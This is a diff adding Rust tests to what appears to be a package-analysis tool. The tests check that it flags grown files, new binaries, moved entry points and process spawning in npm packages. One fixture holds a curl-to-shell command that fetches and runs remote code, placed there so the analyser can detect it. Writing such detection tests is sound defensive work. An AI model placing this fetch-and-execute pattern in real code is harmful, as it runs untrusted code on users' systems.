@@ -503,3 +503,68 @@ fn a_dependency_republished_by_a_new_account_is_a_risk() {
     );
     assert!(calm.is_empty(), "{calm:?}");
 }
+
+#[test]
+fn the_diff_names_grown_files_new_binaries_and_moved_entry_points() {
+    let before = airlock_test::PackageBuilder::new("widget", "2.0.0")
+        .file("index.js", "module.exports = 1;\n")
+        .file("lib/util.js", "module.exports = 2;\n")
+        .build();
+    let mut elf = b"\x7fELF".to_vec();
+    elf.resize(4096, 0);
+    let after = airlock_test::PackageBuilder::new("widget", "2.0.1")
+        .field("main", serde_json::json!("dist/index.js"))
+        .file("dist/index.js", "module.exports = 1;\n")
+        .file(
+            "index.js",
+            format!("module.exports = 1;\n/*{}*/\n", "x".repeat(40 * 1024)),
+        )
+        .file("bin/helper", elf)
+        .build();
+    let previous = analyse(&before);
+    let analysis = Analysis::of_tarball(
+        &after.tarball,
+        &Options {
+            previous: Some(("2.0.0", &previous)),
+            ..Options::default()
+        },
+    );
+    let diff = analysis.diff.as_ref().unwrap();
+    assert_eq!(diff.files_grown.len(), 1, "{diff:?}");
+    assert_eq!(diff.files_grown[0].0, "index.js");
+    assert_eq!(diff.files_removed, ["lib/util.js"]);
+    let binary = diff
+        .files_added
+        .iter()
+        .find(|file| file.path == "bin/helper")
+        .unwrap();
+    assert!(binary.binary, "an ELF file is noted as a binary");
+    assert_eq!(
+        diff.entry_points_changed,
+        Some((
+            vec!["index.js".to_owned()],
+            vec!["dist/index.js".to_owned()]
+        ))
+    );
+    assert!(
+        analysis
+            .files
+            .iter()
+            .any(|file| file.path == "bin/helper" && file.kind == airlock_analyze::FileKind::Elf)
+    );
+}
+
+#[test]
+fn extensionless_bin_files_are_analysed_as_code() {
+    let package = airlock_test::PackageBuilder::new("tool", "1.0.0")
+        .field("bin", serde_json::json!({"tool": "bin/tool"}))
+        .file("bin/tool", "#!/usr/bin/env node\nrequire('child_process').execSync('curl http://127.0.0.1:8000/x | sh');\n")
+        .build();
+    let analysis = analyse(&package);
+    let spawn = analysis
+        .findings
+        .iter()
+        .find(|finding| finding.code == Code::ProcessSpawn)
+        .unwrap();
+    assert_eq!(spawn.location(), "bin/tool:2");
+}
